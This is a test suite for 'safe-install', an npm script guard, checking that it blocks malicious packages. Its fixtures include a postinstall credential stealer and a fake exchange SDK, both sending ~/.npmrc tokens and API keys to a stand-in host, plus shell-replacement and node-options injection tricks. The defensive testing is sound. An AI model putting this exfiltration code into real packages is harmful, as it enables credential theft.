import { spawn } from 'node:child_process'
import { existsSync } from 'node:fs'
import { chmod, mkdir, readFile, readdir, rm, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import process from 'node:process'
import type { Test } from 'tap'
import { runCli, runHere } from './cli.ts'
import type { Finished } from './cli.ts'
import type { TestedNpm } from './npms.ts'
import { makeProject } from './project.ts'
import type { Project } from './project.ts'
import { startRegistry } from './registry.ts'
import type { Registry } from './registry.ts'
import type { FileTable } from './tarball.ts'

type Json = Readonly<Record<string, unknown>>

/** Everything a scenario needs: a registry with the packages below, a project, and a folder for marker files. */
export type Stage = {
  readonly registry: Registry
  readonly project: Project
  readonly npm: (args: readonly string[], options?: NpmOptions) => Promise<Finished>
  readonly marker: (name: string) => string
  readonly ran: (name: string) => boolean
}

export type NpmOptions = {
  readonly env?: Readonly<Record<string, string | undefined>>
  readonly program?: string
}

/** npm 12 runs no unapproved script by itself; with this the shell is alone in saying no. npm 11 ignores it. */
const allScripts = '--dangerously-allow-all-scripts'

/** A fresh stage. */
export async function stage(t: Test, tested: TestedNpm, manifest: Json = {}): Promise<Stage> {
  const registry = await startRegistry(t)
  const project = await makeProject(t, registry, {
    'package.json': { name: 'app', version: '1.0.0', private: true, ...manifest },
  })
  const marker = (name: string): string => join(project.home, `ran-${name}`)
  publish(registry, marker)
  const npm: Stage['npm'] = (args, { env = {}, program = tested.program } = {}) =>
    start(program, args, project, env)
  return { registry, project, npm, marker, ran: name => existsSync(marker(name)) }
}

function start(
  program: string,
  args: readonly string[],
  project: Project,
  env: Readonly<Record<string, string | undefined>>,
): Promise<Finished> {
  return new Promise((resolve, reject) => {
    const child = spawn(program, args, {
      cwd: project.path,
      env: { ...project.env, ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    })
    let [stdout, stderr] = ['', '']
    child.stdout.on('data', chunk => (stdout += String(chunk)))
    child.stderr.on('data', chunk => (stderr += String(chunk)))
    child.on('error', reject)
    child.on('close', (code, signal) => resolve({ code, signal, stdout, stderr }))
  })
}

/** A script that only touches a marker file. */
const touch = (path: string): string =>
  `#!/usr/bin/env node\nrequire('node:fs').writeFileSync(${JSON.stringify(path)}, '')\n`

/** A bin that takes the place of git: nobody can answer the question, so it is refused. The program is inert. */
const alarming = { bin: { git: 'run.js' } }
const badImport = {
  'package.json': JSON.stringify({ name: 'bad-import', version: '1.0.0', ...alarming }),
  'run.js': '// inert\n',
}

function publish(registry: Registry, marker: (name: string) => string): void {
  const add = (
    name: string,
    manifest: Json,
    files: Readonly<Record<string, string>> = {},
    rest = {},
  ): void => {
    registry.publish({
      files: {
        'package.json': JSON.stringify({ name, version: '1.0.0', ...manifest }),
        'index.js': 'module.exports = 1\n',
        'run.js': touch(marker(`${name}-bin`)),
        ...files,
      },
      ...rest,
    })
  }
  const hook = (name: string): Json => ({ name, scripts: { postinstall: 'node hook.js' } })
  add('plain', {})
  add('hooked', hook('hooked'), { 'hook.js': touch(marker('hooked')) })
  add('bad-hook', { ...hook('bad-hook'), ...alarming }, { 'hook.js': touch(marker('bad-hook')) })
  registry.publish({ files: badImport })
  add('bad-program', { bin: { 'bad-program': 'run.js', git: 'run.js' } })
  add(
    'uses-bad',
    { ...hook('uses-bad'), dependencies: { 'bad-import': '1.0.0' } },
    { 'hook.js': touch(marker('uses-bad')) },
  )
  // The registry tells npm to run what no inspection of the tarball can see.
  add(
    'two-faced',
    {},
    {},
    {
      manifest: {
        scripts: {
          postinstall: `node -e "${touch(marker('two-faced')).split('\n')[1]?.replaceAll('"', '\\"')}"`,
        },
        hasInstallScript: true,
      },
    },
  )
  add(
    'fills-bin',
    { ...hook('fills-bin') },
    {
      'hook.js': touch(marker('fills-bin')),
      'node_modules/.bin/sh': `#!/bin/sh\n: > ${marker('replaced-shell')}\n`,
      'node_modules/.bin/shell': `#!/bin/sh\n: > ${marker('replaced-shell')}\n`,
    },
    { executable: ['node_modules/.bin/sh', 'node_modules/.bin/shell'] },
  )
  add('names-shell', { bin: { shell: 'run.js', 'safe-install': 'run.js' } })
  add(
    'brings-bundled',
    { dependencies: { inner: '1.0.0' }, bundleDependencies: ['inner'] },
    {
      'node_modules/inner/package.json': JSON.stringify({
        name: 'inner',
        version: '1.0.0',
        ...hook('inner'),
      }),
      'node_modules/inner/hook.js': touch(marker('inner')),
    },
  )
}

/** Reads a token and sends it away, by its install script. Inert: the host is nobody's, and it is never run. */
const stealer = {
  'package.json': JSON.stringify({
    name: 'stealer',
    version: '1.0.0',
    bin: 'cli.js',
    scripts: { postinstall: 'node setup.js' },
  }),
  'cli.js': '// inert\n',
  'setup.js': `const fs = require('node:fs')
const { homedir } = require('node:os')
const token = fs.readFileSync(homedir() + '/.npmrc', 'utf8')
fetch('https://collect.invalid/', { method: 'POST', body: token })
`,
}

/** The package this project began with, inert: no script, it takes the keys when it is called. */
const fakeSdk = {
  'package.json': JSON.stringify({
    name: 'exchange-sdk-plus',
    version: '1.0.0',
    main: 'index.js',
    bin: 'index.js',
  }),
  'index.js': `#!/usr/bin/env node
const https = require('node:https')
const { readFileSync } = require('node:fs')
const { homedir } = require('node:os')
const send = body => {
  const request = https.request('https://collect.invalid/', { method: 'POST' })
  request.end(body)
}
send(readFileSync(homedir() + '/.npmrc', 'utf8'))
class Exchange {
  constructor({ apiKey, secret }) {
    send(JSON.stringify({ apiKey, secret }))
  }
}
module.exports = { Exchange }
`,
}

const approve = (...names: readonly string[]): Json => ({
  allowScripts: Object.fromEntries(names.map(name => [`${name}@1.0.0`, true])),
})

/** Runs `--setup --user --yes`. */
export async function setUpUser({ project }: Stage): Promise<void> {
  const done = await runHere(project, ['--setup', '--user', '--yes'])
  if (done.code !== 0) throw new Error(`--setup --user: ${done.stderr}${done.stdout}`)
}

/** Runs `--setup --yes`. */
export async function setUpProject({ project }: Stage, ...flags: readonly string[]): Promise<void> {
  const done = await runHere(project, ['--setup', '--yes', ...flags])
  if (done.code !== 0) throw new Error(`--setup: ${done.stderr}${done.stdout}`)
}

const isInstalled = ({ project }: Stage, name: string): boolean =>
  existsSync(join(project.path, 'node_modules', name, 'package.json'))

/**
 * What one npm does in a project or for a user that `--setup` was run for: every trap that was found, shown failing.
 * A second npm is spared what no npm has a part in: the shell that starts the guard, and what the guard keeps.
 */
export function testEnforcement(t: Test, tested: TestedNpm, { isSecond = false } = {}): void {
  const { title, major } = tested
  t.jobs = 1
  t.setTimeout(900_000)
  t.test(`${title}: scripts of packages go through the guard`, async t => {
    t.test('a clean one without approval is skipped, and the install goes on', async t => {
      const at = await stage(t, tested)
      await setUpUser(at)
      const done = await at.npm(['install', 'hooked', allScripts, '--foreground-scripts'])
      t.equal(done.code, 0, done.stderr)
      t.match(
        done.stderr + done.stdout,
        /skipped the postinstall script of hooked@1\.0\.0.*--approve hooked@1\.0\.0/,
      )
      t.notOk(at.ran('hooked'))
      t.ok(isInstalled(at, 'hooked'))
    })
    t.test('an approved clean one runs', async t => {
      const at = await stage(t, tested, approve('hooked'))
      await setUpUser(at)
      const done = await at.npm(['install', 'hooked'])
      t.equal(done.code, 0, done.stderr)
      t.ok(at.ran('hooked'))
    })
    const refused: readonly (readonly [string, string])[] = [
      ['one that is not clean', 'bad-hook'],
      ['one that can load what is not clean', 'uses-bad'],
    ]
    for (const [what, name] of refused) {
      t.test(`an approved one does not run: ${what}`, async t => {
        const at = await stage(t, tested, approve(name))
        await setUpUser(at)
        const done = await at.npm(['install', name])
        t.not(done.code, 0)
        t.notOk(at.ran(name))
        t.notOk(isInstalled(at, name), 'npm took it back')
        t.match(done.stderr, /safe-install did not run the postinstall script/)
        t.match(done.stderr, /safe-install --inspect bad-\w+@1\.0\.0/, 'names the command to review it')
      })
    }
    t.test('a script that only the registry knows does not run', async t => {
      const at = await stage(t, tested, approve('two-faced'))
      await setUpUser(at)
      const done = await at.npm(['install', 'two-faced'])
      t.notOk(at.ran('two-faced'))
      t.not(done.code, 0)
      t.match(done.stderr, /does not contain/)
    })
    t.test('neither a tarball nor a bin of a dependency takes the place of the guard', async t => {
      const at = await stage(t, tested)
      await setUpUser(at)
      const done = await at.npm(['install', 'names-shell', 'fills-bin', allScripts])
      t.equal(done.code, 0, done.stderr)
      t.notOk(at.ran('replaced-shell'))
      t.notOk(at.ran('fills-bin'))
      t.notOk(at.ran('names-shell-bin'))
    })
    t.test('what is bundled is never approved', async t => {
      const at = await stage(t, tested, { allowScripts: { inner: true, 'brings-bundled': true } })
      await setUpUser(at)
      await at.npm(['install', 'brings-bundled', allScripts])
      t.notOk(at.ran('inner'))
    })
    t.test('a hostile project cannot load code into the judge', async t => {
      const at = await stage(t, tested)
      await setUpUser(at)
      await at.project.write('evil.cjs', `${touch(at.marker('evil'))}console.log('safe-install: run')\n`)
      await at.project.write('.npmrc', `node-options=--require ${join(at.project.path, 'evil.cjs')}\n`)
      await at.npm(['install', 'hooked', allScripts])
      t.notOk(at.ran('evil'))
      t.notOk(at.ran('hooked'))
    })
    t.test('a git dependency does not build itself', async t => {
      const at = await stage(t, tested)
      await setUpUser(at)
      const url = await gitPackage(at)
      const done = await at.npm(['install', url, '--allow-git=all'])
      t.equal(done.code, 0)
      for (const event of ['preinstall', 'install', 'postinstall', 'prepare'])
        t.notOk(at.ran(`git-${event}`), event)
    })
    t.test('without the guard the same git dependency does', async t => {
      const at = await stage(t, tested)
      await at.npm(['install', await gitPackage(at), '--allow-git=all'])
      t.ok(at.ran('git-prepare'))
    })
    t.test('a package edited after the install is judged as it lies there', async t => {
      const at = await stage(t, tested, approve('hooked'))
      await setUpUser(at)
      t.equal((await at.npm(['install', 'hooked'])).code, 0)
      await rm(at.marker('hooked'))
      const file = join(at.project.path, 'node_modules', 'hooked', 'package.json')
      const edited = {
        name: 'hooked',
        version: '1.0.0',
        scripts: { postinstall: 'node hook.js' },
        ...alarming,
      }
      await writeFile(file, JSON.stringify(edited))
      t.not((await at.npm(['rebuild'])).code, 0)
      t.notOk(at.ran('hooked'))
    })
    t.test('npm run, npx of a program of the project, and the project scripts run', async t => {
      const scripts = { hello: 'echo hello', postinstall: 'echo mine', prepare: 'echo ready' }
      const at = await stage(t, tested, { scripts, dependencies: { 'names-shell': '1.0.0' } })
      await setUpUser(at)
      t.match(await at.npm(['install', '--foreground-scripts']), { code: 0, stdout: /mine[^]*ready/ })
      t.match(await at.npm(['run', 'hello']), { code: 0, stdout: /(?:^|\n)hello\n/ })
      t.match(await at.npm(['run', 'postinstall']), { code: 0, stdout: /(?:^|\n)mine\n/ })
      t.equal((await at.npm(['exec', '--no', 'shell'])).code, 0)
      t.ok(at.ran('names-shell-bin'))
    })
    t.test('npx starts nothing it downloaded that is not clean', async t => {
      const at = await stage(t, tested)
      await setUpUser(at)
      const done = await at.npm(['exec', '--yes', '--', 'bad-program'])
      t.not(done.code, 0)
      t.notOk(at.ran('bad-program-bin'))
      t.match(done.stderr, /npx downloaded a package that is not clean/)
    })
    t.test('a global install runs no script without approval', async t => {
      const at = await stage(t, tested)
      await setUpUser(at)
      const done = await at.npm(['install', '--global', 'hooked', allScripts])
      t.equal(done.code, 0, done.stderr)
      t.notOk(at.ran('hooked'))
    })
  })

  t.test(`${title}: what is broken fails closed`, async t => {
    const table: readonly (readonly [
      string,
      (at: Stage) => Promise<Readonly<Record<string, string | undefined>>>,
    ])[] = [
      ['the shell is gone', async at => (await rm(join(at.project.home, '.safe-install', 'shell')), {})],
      ['HOME is not set', async () => ({ HOME: undefined })],
      ['HOME is another folder', async () => ({ HOME: '/nowhere' })],
    ]
    const ofTheShell: typeof table = [
      ['Node has moved', async at => (await editShell(at, /'[^']*\/node'/g, `'/nowhere/node'`), {})],
      [
        'safe-install is gone',
        async at => (await editShell(at, /'[^']*safe-install-shell\.js'/g, `'/nowhere.js'`), {}),
      ],
    ]
    for (const [what, break_] of isSecond ? table : [...table, ...ofTheShell]) {
      const at = await stage(t, tested, approve('hooked'))
      await setUpUser(at)
      const env = await break_(at)
      const done = await at.npm(['install', 'hooked'], { env })
      t.not(done.code, 0, `${what}: npm fails`)
      t.notOk(at.ran('hooked'), `${what}: nothing ran`)
    }
    if (isSecond) return
    t.test('a damaged or copied receipt is none', async t => {
      const at = await stage(t, tested, approve('bad-hook', 'hooked'))
      await setUpUser(at)
      t.equal((await at.npm(['install', 'hooked'])).code, 0)
      const folder = join(at.project.home, '.safe-install', 'receipts')
      const files = (await readdir(folder, { recursive: true, withFileTypes: true })).filter(file =>
        file.isFile(),
      )
      t.ok(files.length > 0, 'the clean package left one')
      for (const file of files) {
        const path = join(file.parentPath, file.name)
        await writeFile(path, (await readFile(path, 'utf8')).replaceAll('hooked', 'bad-hook'))
      }
      t.not((await at.npm(['install', 'bad-hook'])).code, 0)
      t.notOk(at.ran('bad-hook'))
    })
    t.test('a home that cannot be written still judges', async t => {
      const at = await stage(t, tested, approve('hooked', 'bad-hook'))
      await setUpUser(at)
      await writeFile(join(at.project.home, '.safe-install', 'receipts'), 'not a folder')
      t.equal((await at.npm(['install', 'hooked'])).code, 0)
      t.ok(at.ran('hooked'))
      t.not((await at.npm(['install', 'bad-hook'])).code, 0)
    })
  })

  t.test(`${title}: the check gate stops packages without scripts`, async t => {
    const at = await stage(t, tested)
    await setUpProject(at)
    const clean = await at.npm(['install', 'plain'])
    t.equal(clean.code, 0, clean.stderr)
    t.ok(isInstalled(at, 'plain'))
    const lock = await at.project.read('package-lock.json')
    const bad = await at.npm(['install', 'bad-import'])
    t.not(bad.code, 0, 'npm install <name>')
    t.notOk(isInstalled(at, 'bad-import'), 'taken back')
    t.ok(isInstalled(at, 'plain'), 'the rest stays')
    t.equal(await at.project.read('package-lock.json'), lock)
    t.match(bad.stderr, /refused this install because of bad-import@1\.0\.0/)
    t.equal((await runCli(at.project, [])).code, 0, 'safe-install and its own gate get along')
    const accepted = await runCli(at.project, ['bad-import', '--yes'])
    t.equal(accepted.code, 0, 'what a person said yes to, the gate lets pass')
    t.ok(isInstalled(at, 'bad-import'))
    t.equal((await at.npm(['uninstall', 'bad-import'])).code, 0)
    await rm(join(at.project.home, '.safe-install', 'receipts'), { recursive: true })
    await addToLock(at, 'bad-import', badImport)
    for (const words of [['install'], ['ci']]) {
      const done = await at.npm(words)
      t.not(done.code, 0, `npm ${words.join(' ')}, from a warm cache`)
      t.notOk(isInstalled(at, 'bad-import'))
    }
  })

  t.test(`${title}: a credential stealer and a fake SDK at every door`, async t => {
    const doors: string[] = []
    for (const [name, files] of [
      ['stealer', stealer],
      ['exchange-sdk-plus', fakeSdk],
    ] as const) {
      const at = await stage(t, tested, approve(name))
      at.registry.publish({ files })
      await setUpUser(at)
      await setUpProject(at)
      t.equal((await at.npm(['install', 'plain'])).code, 0, 'an honest one is let in')
      const refused = async (what: string, words: readonly string[], options?: NpmOptions): Promise<void> => {
        const done = await at.npm(words, options)
        t.not(done.code, 0, `${name}: ${what} fails`)
        t.notOk(isInstalled(at, name), `${name}: ${what} leaves nothing`)
        t.match(done.stderr + done.stdout, /collect\.invalid|npm error/, `${name}: ${what} says why`)
        doors.push(`${name} | ${what} | stopped, exit code ${String(done.code)}, nothing left`)
      }
      await refused('npm install <pkg>', ['install', name])
      await refused('npm install <pkg> in an agent', ['install', name], {
        env: { CLAUDECODE: '1', CI: 'true' },
      })
      await addToLock(at, name, files)
      await refused('npm install', ['install'])
      await refused('npm update', ['update'])
      await refused('npm ci from a warm cache', ['ci', '--offline'])
      const shims = join(at.project.home, '.safe-install', 'bin')
      const env = { PATH: `${shims}:${await realNpm(at, tested)}:${process.env['PATH']}` }
      // By the shim: npm 11 runs install scripts of what npx downloads in plain sh, whatever its script-shell is.
      const npx = await at.npm(['--yes', `${name}@1.0.0`], { program: join(shims, 'npx'), env })
      t.equal(npx.code, 10, `${name}: npx`)
      t.match(npx.stderr, /collect\.invalid/, `${name}: npx says why`)
      doors.push(`${name} | npx, by the shim | stopped, exit code ${String(npx.code)}`)
      const global = await at.npm(['install', '--global', name], { program: join(shims, 'npm'), env })
      t.equal(global.code, 10, `${name}: a global install, by the shim`)
      t.match(global.stdout, /collect\.invalid/)
      doors.push(`${name} | npm install -g, by the shim | stopped, exit code ${String(global.code)}`)
      // What is open, and said to be: without the shim no gate sees a global package that has no script.
      const plain = await at.npm(['install', '--global', name, allScripts])
      const hasScript = name === 'stealer'
      t.equal(plain.code !== 0, hasScript, `${name}: a global install by plain npm`)
      doors.push(`${name} | npm install -g, plain npm | ${hasScript ? 'stopped' : 'OPEN: installed'}`)
    }
    for (const door of doors) t.comment(`${title} | ${door}`)
  })

  t.test(`${title}: the strict gate leaves plain npm nothing to do`, async t => {
    const at = await stage(t, tested, { scripts: { hello: 'echo hello' }, dependencies: { plain: '1.0.0' } })
    await setUpProject(at, '--gate', 'strict')
    at.registry.clearRequests()
    for (const words of [['install'], ['install', 'bad-import']]) {
      const done = await at.npm(words)
      t.not(done.code, 0, words.join(' '))
      t.match(done.stderr, /EBADENGINE[^]*use safe-install/)
    }
    t.equal(at.registry.count({ kind: 'tarball' }), 0, 'before anything is fetched')
    t.match(await at.npm(['run', 'hello']), { code: 0, stdout: /hello/ })
    const ours = await runCli(at.project, [])
    t.equal(ours.code, 0, ours.stderr)
    t.ok(isInstalled(at, 'plain'), 'safe-install itself is let in')
    t.not((await at.npm(['ci'])).code, 0, 'npm ci')
  })

  t.test(`${title}: the shim before npm`, async t => {
    const at = await stage(t, tested, { scripts: { hello: 'echo hello' } })
    await setUpUser(at)
    const shims = join(at.project.home, '.safe-install', 'bin')
    const real = await realNpm(at, tested)
    const env = { PATH: `${shims}:${real}:${process.env['PATH']}` }
    const shim = (words: readonly string[], more = {}): Promise<Finished> =>
      at.npm(words, { program: join(shims, 'npm'), env: { ...env, ...more } })
    t.match(await shim(['run', 'hello']), { code: 0, stdout: /hello/ })
    t.match(
      await shim(['--version']),
      { code: 0, stdout: new RegExp(`^${major}\\.`) },
      'the npm behind the shim',
    )
    const bad = await shim(['install', 'bad-import'])
    t.equal(bad.code, 10, 'npm install is safe-install')
    t.notOk(isInstalled(at, 'bad-import'))
    t.equal((await shim(['i', 'plain'])).code, 0)
    t.ok(isInstalled(at, 'plain'))
    t.equal((await shim(['ci'])).code, 0, 'npm ci is safe-install --ci')
    t.equal((await shim(['--silent', 'install', 'bad-import'])).code, 2, 'flags first')
    t.equal((await shim(['inst-all', 'bad-import'])).code, 2, 'no abbreviation')
    await at.project.write('.npmrc', 'script-shell=/bin/sh\n')
    await at.project.write(
      'package.json',
      JSON.stringify({
        name: 'app',
        private: true,
        dependencies: { 'bad-hook': '1.0.0' },
        ...approve('bad-hook'),
      }),
    )
    await shim(['dedupe', '--ignore-scripts'])
    await shim(['rebuild'])
    t.notOk(at.ran('bad-hook'), "a project's own script-shell does not take the guard away")
    await rm(join(at.project.home, '.safe-install', 'shell'))
    t.equal((await shim(['run', 'hello'])).code, 127, 'without the shell nothing starts')
  })
}

/** A git repository with a script for every event npm runs when it prepares one, and a shell of its own choice. */
async function gitPackage({ project, marker }: Stage): Promise<string> {
  const folder = join(project.home, 'git-package')
  await mkdir(folder)
  const events = ['preinstall', 'install', 'postinstall', 'prepare']
  const scripts = Object.fromEntries(events.map(event => [event, `: > ${marker(`git-${event}`)}`]))
  await writeFile(
    join(folder, 'package.json'),
    JSON.stringify({ name: 'git-package', version: '1.0.0', scripts }),
  )
  await writeFile(join(folder, '.npmrc'), 'script-shell=/bin/sh\nignore-scripts=false\n')
  const git = async (...args: readonly string[]): Promise<void> => {
    const options = ['-C', folder, '-c', 'user.name=t', '-c', 'user.email=t@example.test']
    const done = await start('git', [...options, ...args], project, {})
    if (done.code !== 0) throw new Error(done.stderr)
  }
  await git('init', '-q', '-b', 'main')
  await git('add', '-A')
  await git('commit', '-qm', 'one')
  return `git+file://${folder}`
}

async function editShell({ project }: Stage, pattern: RegExp, text: string): Promise<void> {
  const path = join(project.home, '.safe-install', 'shell')
  await writeFile(path, (await readFile(path, 'utf8')).replaceAll(pattern, text))
  await chmod(path, 0o755)
}

/** A lockfile and manifest that somebody else wrote, with one package more. */
async function addToLock({ project, registry }: Stage, name: string, files: FileTable): Promise<void> {
  const manifest = JSON.parse(await project.read('package.json')) as { dependencies: Record<string, string> }
  manifest.dependencies[name] = '1.0.0'
  await project.write('package.json', JSON.stringify(manifest))
  const lock = JSON.parse(await project.read('package-lock.json')) as {
    packages: Record<string, { dependencies?: Record<string, string> }>
  }
  const root = lock.packages['']
  if (root?.dependencies) root.dependencies[name] = '1.0.0'
  const published = registry.publish({ files })
  const entry = {
    version: '1.0.0',
    resolved: published.url,
    integrity: published.integrity,
    bin: { git: 'run.js' },
  }
  await project.write(
    'package-lock.json',
    JSON.stringify({ ...lock, packages: { ...lock.packages, [`node_modules/${name}`]: entry } }),
  )
}

/** A folder with nothing but the tested npm. */
async function realNpm({ project }: Stage, { program }: TestedNpm): Promise<string> {
  if (program.includes('/')) return join(program, '..')
  const folder = join(project.home, 'empty')
  await mkdir(folder, { recursive: true })
  return folder
}
